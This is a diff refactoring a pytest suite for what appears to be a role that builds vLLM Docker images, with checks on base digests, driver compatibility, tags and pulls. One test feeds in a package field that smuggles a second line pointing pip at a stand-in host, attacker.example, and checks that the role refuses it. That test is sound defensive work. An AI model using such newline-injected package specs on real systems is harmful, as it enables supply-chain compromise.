@@ -9,13 +9,13 @@ import json
 import re
 import sys
 import tarfile
-from collections.abc import Callable, Generator
+from collections.abc import Generator
 from pathlib import Path
 from typing import Any
 
 import pytest
 import yaml
-from helpers import ROOT
+from helpers import ROOT, write_program
 from role_cases import Cases, Played, Run, Steps
 
 BASE = "registry.example/vllm/vllm-openai:v0.32.0"
@@ -161,9 +161,7 @@ def base_that_meets_the_requirement_is_used_until_its_tag_moves(host: Host) -> S
     played = yield from host.converge(vllm_image_keep=2, vllm_image_driver_version="570.195.03")
     assert (played.result["name"], played.result["id"], played.result["layer"]) == (BASE, BASE_ID, False)
     assert host.commands() == ["run", "run"] and "there is no layer" in played.text
-    needs = (
-        "made with CUDA 13.0.2, which needs a driver of branch 580 or newer, and the host has 570.195.03. Engines can"
-    )
+    needs = "CUDA 13.0.2, which needs a driver of branch 580 or newer, and the host has 570.195.03. Engines can"
     assert needs in played.text, "whether the compatibility library works only CUDA can tell"
     kept = [tag.removeprefix("vllm-edge/vllm-openai:") for tag in host.tags() if "old" in tag]
     assert kept == ["old0", "old1", "old3"], "old0 is used by a container, old1 by a kept generation"
@@ -183,8 +181,7 @@ def base_that_meets_the_requirement_is_used_until_its_tag_moves(host: Host) -> S
     images = host.docker_state()["images"]
     images[0] |= {"id": OTHER_ID, "environment": ["CUDA_VERSION=14.0.1"]}
     host.change_docker(images=images)
-    tag = f"docker tag {BASE_ID} {BASE}"
-    yield from host.refuse("the tag was moved", f"vllm_image_base_id: {OTHER_ID}", tag)
+    yield from host.refuse("the tag was moved", f"vllm_image_base_id: {OTHER_ID}", f"docker tag {BASE_ID} {BASE}")
     accepted = yield from host.converge(vllm_image_base_id=OTHER_ID, vllm_image_driver_version="470.256.02")
     assert accepted.result["base_id"] == OTHER_ID
     record = host.record()
@@ -194,16 +191,12 @@ def base_that_meets_the_requirement_is_used_until_its_tag_moves(host: Host) -> S
 
 
 @CASES.add
-def pinned_identity_that_differs_is_refused(host: Host) -> Steps:
-    yield from host.refuse("vllm_image_base_id pins", vllm_image_base_id=OTHER_ID)
-    yield from host.refuse("vllm_image_base_digest pins", vllm_image_base_digest=OTHER_ID)
-    assert host.commands() == []
-
-
-@CASES.add
 def absent_base_is_pulled_by_the_pinned_digest(host: Host) -> Steps:
-    host.docker(IMAGE, registry={f"{BASE.rsplit(':', 1)[0]}@{DIGEST}": IMAGE})
     host.change_docker(images=[])
+    does_not_have_it = "The registry registry.example answers and does not have it. Set vllm_image_base (now"
+    yield from host.refuse("manifest unknown", does_not_have_it)
+    host.commands()
+    host.change_docker(registry={f"{BASE.rsplit(':', 1)[0]}@{DIGEST}": IMAGE})
     said = f"1000000000 MiB are needed to install {BASE}: vllm_image_free_mib, which may be lower"
     yield from host.refuse(said, vllm_image_base_digest=DIGEST, vllm_image_free_mib=10**9)
     foreseen = yield from host.converge(check=True, changed=1, vllm_image_base_digest=DIGEST)
@@ -217,8 +210,7 @@ def absent_base_is_pulled_by_the_pinned_digest(host: Host) -> Steps:
 
 @CASES.add
 def an_image_that_was_pulled_and_takes_no_tag_is_not_said_not_to_have_come(host: Host) -> Steps:
-    host.docker(IMAGE, registry={f"{BASE.rpartition(':')[0]}@{DIGEST}": IMAGE | {"digests": []}})
-    host.change_docker(images=[])
+    host.change_docker(images=[], registry={f"{BASE.rpartition(':')[0]}@{DIGEST}": IMAGE | {"digests": []}})
     played = yield from host.refuse("No such image", vllm_image_base_digest=DIGEST)
     assert "could not be pulled" not in played.text
 
@@ -246,13 +238,6 @@ CASES.add(
     # And the attestation of one of them.
     manifests=[manifest("OCIManifest", size) for size in (1_000_000, 900_000, 1)],
 )
-
-
-@CASES.add
-def failed_pull_says_what_docker_said(host: Host) -> Steps:
-    host.change_docker(images=[])
-    does_not_have_it = "The registry registry.example answers and does not have it. Set vllm_image_base (now"
-    yield from host.refuse("manifest unknown", does_not_have_it)
 
 
 @CASES.add
@@ -301,8 +286,7 @@ def archive_that_moves_names_of_others_is_undone(host: Host) -> Steps:
 
 @CASES.add
 def image_that_lies_about_its_packages_reaches_neither_pip_nor_a_file(host: Host) -> Steps:
-    (host.root / "pip").write_text(f"#!/bin/sh\ntouch {host.root}/called\n")
-    (host.root / "pip").chmod(0o755)
+    write_program(host.root / "pip", f"touch {host.root}/called")
     packages = {**PACKAGES, "zz": "1\ntransformers @ https://attacker.example/x.tar.gz"}
     host.change_docker(answer=json.dumps({**CONTENTS, "packages": packages}))
     refused = yield from host.refuse(
@@ -385,16 +369,15 @@ def host_without_docker_says_one_line_in_check_mode(host: Host) -> Steps:
 
 @CASES.add
 def wrong_variables_are_refused(host: Host) -> Steps:
+    yield from host.refuse("vllm_image_base_id pins", vllm_image_base_id=OTHER_ID)
+    yield from host.refuse("vllm_image_base_digest pins", vllm_image_base_digest=OTHER_ID)
     yield from host.refuse("'latest' is refused", vllm_image_base="vllm/vllm-openai:latest")
     yield from host.refuse("vllm_image_matrix is empty", vllm_image_matrix=[])
     yield from host.refuse("The directory is needed", vllm_image_wheels_directory="")
     assert host.commands() == []
 
 
-@pytest.mark.slow
-@pytest.mark.parametrize("case", CASES.steps)
-def test_case(run_case: Callable[[str], None], case: str) -> None:
-    run_case(case)
+test_case = CASES.make_test()
 
 
 @pytest.mark.parametrize(
